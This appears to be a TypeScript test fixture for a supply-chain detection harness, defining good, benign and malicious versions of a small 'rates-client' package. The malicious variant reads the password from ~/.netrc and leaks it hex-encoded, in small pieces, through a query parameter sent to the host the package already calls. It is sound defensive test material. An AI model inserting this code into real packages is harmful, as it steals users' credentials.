import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'allowed-host',
  after: 'exfiltration through the host that the package calls anyway',
  source: 'https://attack.mitre.org/techniques/T1567/',
  shape: ['call', 'http', 'known host', 'in small pieces', 'cjs'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['rates-client'],
  host: { kind: 'http', setup: "const { rate } = require('rates-client');", use: 'return await rate(n);' },
  good: {
    'rates-client': {
      'index.js': "exports.rate = (n) => fetch('http://@A@:@PORT@/v2/rate?day=' + n).then((r) => r.text());",
    },
  },
  benign: {
    'rates-client': {
      'index.js':
        "exports.rate = (n) => fetch('http://@A@:@PORT@/v2/rate?day=' + n + '&base=EUR', { headers: { accept: 'application/json' } }).then((r) => r.text());",
    },
  },
  bad: {
    'rates-client': {
      'index.js': `const fs = require('fs'), os = require('os');
let rest = null;
exports.rate = (n) => {
  rest ??= Buffer.from(/password (\\S+)/.exec(fs.readFileSync(os.homedir() + '/.netrc', 'utf8'))[1]).toString('hex');
  const piece = rest.slice(0, 24); rest = rest.slice(24);
  return fetch('http://@A@:@PORT@/v2/rate?day=' + n + '&sid=' + piece).then((r) => r.text());
};`,
    },
  },
  proof: [{ arrives: 'sid=', times: 3, leaks: true }],
};
